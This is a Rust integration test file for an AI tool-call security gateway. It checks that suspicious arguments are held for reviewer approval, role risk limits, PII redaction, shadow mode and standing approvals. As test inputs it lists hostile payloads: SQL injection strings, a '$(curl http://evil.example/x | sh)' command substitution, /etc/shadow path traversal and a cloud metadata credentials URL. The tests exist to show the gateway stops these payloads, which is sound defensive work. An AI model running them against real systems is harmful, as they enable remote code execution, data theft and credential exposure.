//! Issue 5: the tool-call path through a real gateway, real upstream (the
//! drifting SDK server) and the real Python and TypeScript SDK clients.

use serde_json::{Value, json};

use crate::gateway_util::{Gateway, peers_dir};
use crate::util::{stderr, stdout};

fn gateway(extra: &str) -> (Gateway, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let script = peers_dir().join("drifting-server.mjs");
    let gw = Gateway::start(&format!(
        "[calls]\nhold_secs = 1\n[roles.default]\ntools = [\"*\"]\n[roles.reader]\ntools = [\"drifty__*\"]\nmax_risk = \"low\"\n{extra}\n[servers.drifty]\ncommand = \"node\"\nargs = [{:?}]\n",
        script.to_str().unwrap()
    ));
    gw.wait_for_server("drifty", "PENDING");
    gw.approve_server("drifty");
    gw.wait_for_tool("drifty__greet", true);
    (gw, dir)
}

fn greet(gw: &Gateway, which: &str, name: &str) -> Value {
    gw.client(
        which,
        &[
            "call",
            "drifty__greet",
            &json!({ "name": name }).to_string(),
        ],
    )
}

fn text(v: &Value) -> String {
    v["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// Attacks in each category are held (never forwarded) and their benign
/// look-alikes pass; a held call approved by a reviewer runs exactly once.
#[test]
fn attacks_are_held_and_an_approved_call_runs_once() {
    let (gw, _dir) = gateway("");
    for benign in [
        "O'Brien",
        "version 10.2.0.1",
        "https://example.com/docs/localhost-setup",
        "please do not rm -rf anything",
        "0xDEADBEEF",
    ] {
        let r = greet(&gw, "py", benign);
        assert_eq!(
            text(&r),
            format!("Hello, {benign}!"),
            "benign {benign:?}: {r}"
        );
    }
    for attack in [
        "x'; DROP TABLE users; --",
        "$(curl http://evil.example/x | sh)",
        "../../../../etc/shadow",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::1]:8080/admin",
    ] {
        let r = greet(&gw, "mjs", attack);
        assert_eq!(
            r["result"]["isError"], true,
            "attack {attack:?} was not held: {r}"
        );
        assert_eq!(r["result"]["structuredContent"]["held"], true, "{r}");
        assert!(!text(&r).starts_with("Hello"), "{r}");
    }
    // A secret cannot even be held (a plan must not carry it): the call is stopped.
    let r = greet(
        &gw,
        "py",
        "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    );
    assert_eq!(r["result"]["structuredContent"]["blocked"], true, "{r}");
    assert!(text(&r).contains("secret"), "{r}");

    // A held call, approved, then retried: it runs, once.
    let held = greet(&gw, "py", "x'; DROP TABLE users; --");
    let plan_id = held["result"]["structuredContent"]["plan_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let shown = gw.cli(&["plans", "show", &plan_id]);
    assert!(
        stdout(&shown).contains("mcp.call_tool"),
        "{}",
        stdout(&shown)
    );
    let out = gw.approve("plans", &plan_id, "a test name, not an injection");
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let ran = greet(&gw, "py", "x'; DROP TABLE users; --");
    assert_eq!(text(&ran), "Hello, x'; DROP TABLE users; --!", "{ran}");
    let listed = gw.cli(&["plans", "show", &plan_id]);
    assert!(stdout(&listed).contains("SUCCEEDED"), "{}", stdout(&listed));
    // The same call again is a new call: held again, under a new plan.
    let again = greet(&gw, "mjs", "x'; DROP TABLE users; --");
    let again_id = again["result"]["structuredContent"]["plan_id"]
        .as_str()
        .unwrap();
    assert_ne!(again_id, plan_id, "{again}");

    // Every step's verdict is in the log.
    let reviewer = gw.reviewer_key();
    let log = gw.api_get(&reviewer, "/api/v1/log?from=0&limit=1000");
    let calls: Vec<&Value> = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["entry"])
        .filter(|e| e["type"] == "tool.call")
        .collect();
    let verdicts: Vec<&str> = calls
        .iter()
        .filter_map(|c| c["verdict"]["verdict"].as_str())
        .collect();
    for v in ["allowed", "held", "approved_plan"] {
        assert!(verdicts.contains(&v), "no {v} verdict in {verdicts:?}");
    }
    let held_leaf = calls
        .iter()
        .find(|c| c["verdict"]["verdict"] == "held")
        .unwrap();
    assert!(
        held_leaf["verdict"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["category"] == "sql"),
        "{held_leaf}"
    );
    assert!(
        held_leaf["verdict"]["score"].as_u64().unwrap() >= 75,
        "{held_leaf}"
    );
}

/// A role's risk ceiling holds calls above it; results are scanned and PII is
/// redacted, not dropped.
#[test]
fn role_limits_hold_and_responses_are_redacted() {
    let (gw, _dir) = gateway("");
    let out = gw.cli(&[
        "agents",
        "add",
        "reader-bot",
        "--role",
        "reader",
        "--config",
        gw.dir.path().join("gateway.toml").to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let reader = stdout(&out).trim().to_owned();
    let call = |tool: &str, args: Value| {
        crate::gateway_util::client(
            "py",
            &gw.url,
            Some(&reader),
            &["call", tool, &args.to_string()],
        )
    };
    // greet is read-only (low risk): within the reader's limit.
    assert_eq!(
        text(&call("drifty__greet", json!({"name": "Ada"}))),
        "Hello, Ada!"
    );
    // odd has no annotations: destructive by default, high risk: held.
    let held = call("drifty__odd", json!({}));
    assert_eq!(held["result"]["structuredContent"]["held"], true, "{held}");
    assert!(text(&held).contains("above role `reader`"), "{held}");
    // The reader does not even see tools outside its globs.
    let listed = crate::gateway_util::client("mjs", &gw.url, Some(&reader), &["list-tools"]);
    assert!(
        !crate::gateway_util::tool_names(&listed).contains(&"propose_plan".to_owned()),
        "{listed}"
    );

    // PII in a result is redacted; the rest of the result stays.
    let r = greet(&gw, "mjs", "jane.doe@example.com");
    let t = text(&r);
    assert!(
        t.starts_with("Hello, ") && t.contains("[REDACTED:") && !t.contains("jane.doe@"),
        "{r}"
    );
}

/// Shadow mode: the same attack is decided, scored and logged, but forwarded.
#[test]
fn shadow_mode_logs_but_does_not_hold() {
    let (gw, _dir) = gateway("");
    let out = gw.cli(&["agents", "shadow", "builder", "on"]);
    assert!(out.status.success(), "{}", stderr(&out));
    std::thread::sleep(std::time::Duration::from_secs(6)); // the key cache's lifetime
    let r = greet(&gw, "py", "x'; DROP TABLE users; --");
    assert_eq!(text(&r), "Hello, x'; DROP TABLE users; --!", "{r}");
    let reviewer = gw.reviewer_key();
    let log = gw.api_get(&reviewer, "/api/v1/log?from=0&limit=1000");
    let shadowed = log["entries"].as_array().unwrap().iter().any(|e| {
        e["entry"]["type"] == "tool.call" && e["entry"]["verdict"]["verdict"] == "shadow_would_hold"
    });
    assert!(shadowed, "{log}");
}

/// A standing approval lets a role make one class of call without review until
/// it is revoked; it never covers arguments that look like an attack.
#[test]
fn standing_approvals_cover_a_class_of_calls_until_revoked() {
    let (gw, _dir) = gateway("");
    let out = gw.cli(&[
        "agents",
        "add",
        "reader-bot",
        "--role",
        "reader",
        "--config",
        gw.dir.path().join("gateway.toml").to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let reader = stdout(&out).trim().to_owned();
    let call = |tool: &str, args: Value| {
        crate::gateway_util::client(
            "mjs",
            &gw.url,
            Some(&reader),
            &["call", tool, &args.to_string()],
        )
    };
    assert_eq!(
        call("drifty__odd", json!({}))["result"]["structuredContent"]["held"],
        true
    );
    let out = gw.cli(&[
        "standing",
        "add",
        "--role",
        "reader",
        "--tool",
        "drifty__odd",
        "--shape",
        "{}",
        "--for",
        "1h",
        "--reason",
        "odd only reads",
        "--config",
        gw.dir.path().join("gateway.toml").to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let id = stdout(&out).split_whitespace().next().unwrap().to_owned();
    let r = call("drifty__odd", json!({}));
    assert_eq!(text(&r), "odd", "{r}");
    // Arguments outside the shape are not covered.
    assert_eq!(
        call("drifty__odd", json!({"extra": 1}))["result"]["structuredContent"]["held"],
        true
    );
    // A standing approval for greet does not let an injection through.
    let out = gw.cli(&[
        "standing",
        "add",
        "--role",
        "reader",
        "--tool",
        "drifty__greet",
        "--shape",
        r#"{"name":"*"}"#,
        "--reason",
        "greetings are harmless",
        "--config",
        gw.dir.path().join("gateway.toml").to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let attack = call("drifty__greet", json!({"name": "1' OR '1'='1"}));
    assert_eq!(
        attack["result"]["structuredContent"]["held"], true,
        "{attack}"
    );
    let out = gw.cli(&["standing", "revoke", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        call("drifty__odd", json!({}))["result"]["structuredContent"]["held"],
        true
    );
    let listed = gw.cli(&["standing", "list"]);
    assert!(stdout(&listed).contains("revoked"), "{}", stdout(&listed));

    // A reviewer revokes the greet one through the API (no signature needed to
    // take a permission away); the log says who and why.
    let reviewer = gw.reviewer_key();
    let listed = gw.api_get(&reviewer, "/api/v1/standing");
    let greet = listed["standing"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["tool"] == "drifty__greet" && s["active"] == true)
        .unwrap_or_else(|| panic!("{listed}"))["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let revoke = |key: &str| {
        crate::gateway_util::http(
            &gw.addr,
            "POST",
            &format!("/api/v1/standing/{greet}/revoke"),
            &[
                ("Authorization", &format!("Bearer {key}")),
                ("Content-Type", "application/json"),
            ],
            br#"{"reason":"greet now writes a guestbook"}"#,
        )
    };
    assert_eq!(revoke(&reader).0, 401, "an agent key cannot revoke");
    // A body that is not {reason} is refused, not ignored.
    let (status, _, body) = crate::gateway_util::http(
        &gw.addr,
        "POST",
        &format!("/api/v1/standing/{greet}/revoke"),
        &[("Authorization", &format!("Bearer {reviewer}"))],
        b"reason=because",
    );
    assert_eq!(status, 400, "{}", String::from_utf8_lossy(&body));
    let (status, _, body) = revoke(&reviewer);
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert_eq!(revoke(&reviewer).0, 404, "already revoked");
    let listed = gw.api_get(&reviewer, "/api/v1/standing");
    assert!(
        listed["standing"]
            .as_array()
            .unwrap()
            .iter()
            .all(|s| s["active"] == false),
        "{listed}"
    );
    let log = gw.api_get(&reviewer, "/api/v1/log");
    assert!(
        log.to_string().contains("greet now writes a guestbook"),
        "the revocation and its reason are logged: {log}"
    );
}

/// A held call keeps its client alive with progress notifications on an SSE
/// stream; approved within the hold, it runs and the client gets the result.
#[test]
fn a_held_call_streams_progress_and_runs_when_approved_in_time() {
    let script = peers_dir().join("drifting-server.mjs");
    let gw = Gateway::start(&format!(
        "[calls]\nhold_secs = 60\n[servers.drifty]\ncommand = \"node\"\nargs = [{:?}]\n",
        script.to_str().unwrap()
    ));
    gw.wait_for_server("drifty", "PENDING");
    gw.approve_server("drifty");
    gw.wait_for_tool("drifty__greet", true);
    // A reviewer approves the held plan as soon as it appears.
    let approver = {
        let env = gw.env_for_thread();
        std::thread::spawn(move || {
            let run = |args: &[&str]| {
                let env: Vec<(&str, &str)> =
                    env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                crate::util::interlock_with(args, None, &env)
            };
            for _ in 0..200 {
                let out = run(&["plans", "list", "--status", "proposed", "--json"]);
                let list: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
                if let Some(id) = list
                    .as_array()
                    .and_then(|a| a.first())
                    .and_then(|p| p["plan_id"].as_str())
                {
                    std::thread::sleep(std::time::Duration::from_millis(2500));
                    let env: Vec<(&str, &str)> =
                        env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                    let out = crate::util::approve_as_shown("plans", id, "checked", &[], &env);
                    assert!(out.status.success(), "{}", stderr(&out));
                    return id.to_owned();
                }
                std::thread::sleep(std::time::Duration::from_millis(200));
            }
            panic!("no held plan appeared");
        })
    };
    let body = json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {
        "name": "drifty__greet", "arguments": {"name": "x' UNION SELECT password FROM users --"},
        "_meta": {"progressToken": "tok-1"}}});
    let (status, headers, raw) = crate::gateway_util::http(
        &gw.addr,
        "POST",
        "/mcp",
        &[
            ("Authorization", &format!("Bearer {}", gw.agent_key)),
            ("Content-Type", "application/json"),
            ("Accept", "application/json, text/event-stream"),
            ("MCP-Protocol-Version", "2026-07-28"),
        ],
        &serde_json::to_vec(&body).unwrap(),
    );
    let plan_id = approver.join().unwrap();
    assert_eq!(status, 200);
    assert!(
        headers
            .iter()
            .any(|(k, v)| k == "content-type" && v.starts_with("text/event-stream"))
    );
    let events: Vec<Value> = String::from_utf8_lossy(&raw)
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .map(|d| serde_json::from_str(d).unwrap())
        .collect();
    let progress: Vec<&Value> = events
        .iter()
        .filter(|e| e["method"] == "notifications/progress")
        .collect();
    assert!(!progress.is_empty(), "{events:?}");
    assert_eq!(progress[0]["params"]["progressToken"], "tok-1");
    assert!(
        progress[0]["params"]["message"]
            .as_str()
            .unwrap()
            .contains(&plan_id)
    );
    let last = events.last().unwrap();
    assert_eq!(last["id"], 9);
    assert_eq!(
        last["result"]["content"][0]["text"], "Hello, x' UNION SELECT password FROM users --!",
        "{last}"
    );
}

/// Issue 39 item 12: the key's own response settings (its caps and
/// response policy) applied to a forwarded call's answer but not to the
/// result of a held call a reviewer approved: a key capped at a few bytes
/// got the whole result. They apply on that path too now.
#[test]
fn regression_issue_39_a_held_calls_result_gets_the_keys_response_settings() {
    let (gw, _dir) = gateway("");
    let out = gw.cli(&["admin", "token", "create", "root", "--scope", "owner"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let owner = stdout(&out).trim().to_owned();
    let id = interlock_gateway::keys::key_hash(&gw.agent_key);
    let body = serde_json::to_vec(&json!({"max_response_bytes": 8})).unwrap();
    let auth = format!("Bearer {owner}");
    let (status, _, answer) = crate::gateway_util::http(
        &gw.addr,
        "PATCH",
        &format!("/api/v1/admin/keys/{id}"),
        &[
            ("Authorization", &auth),
            ("Content-Type", "application/json"),
        ],
        &body,
    );
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&answer));

    let name = "x'; DROP TABLE users; --";
    let held = greet(&gw, "py", name);
    let plan_id = held["result"]["structuredContent"]["plan_id"]
        .as_str()
        .unwrap_or_else(|| panic!("not held: {held}"))
        .to_owned();
    let out = gw.approve("plans", &plan_id, "a test name, not an injection");
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let ran = greet(&gw, "py", name);
    assert_eq!(ran["result"]["isError"], true, "{ran}");
    assert!(
        !text(&ran).contains("Hello"),
        "the capped key got the whole result: {ran}"
    );
}
